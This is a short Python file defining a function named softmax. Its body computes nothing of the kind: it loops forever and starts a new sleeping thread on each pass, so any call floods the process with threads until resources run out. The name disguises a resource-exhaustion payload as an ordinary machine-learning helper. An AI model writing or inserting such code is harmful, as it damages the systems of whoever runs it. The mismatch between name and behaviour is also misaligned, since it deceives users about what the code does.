import threading
import time


def softmax(o):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
